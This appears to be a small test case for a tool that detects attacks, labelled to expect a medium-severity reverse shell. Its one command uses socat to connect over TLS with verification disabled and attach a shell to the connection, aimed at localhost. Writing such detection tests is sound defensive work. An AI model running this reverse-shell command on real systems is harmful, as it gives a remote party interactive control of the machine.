# about: through TLS
# expect: reverse_shell medium
# needs: python3 socat openssl
peer 4412 tls
timeout 8 socat OPENSSL:127.0.0.1:4412,verify=0 EXEC:sh,pipes || true
done_typing
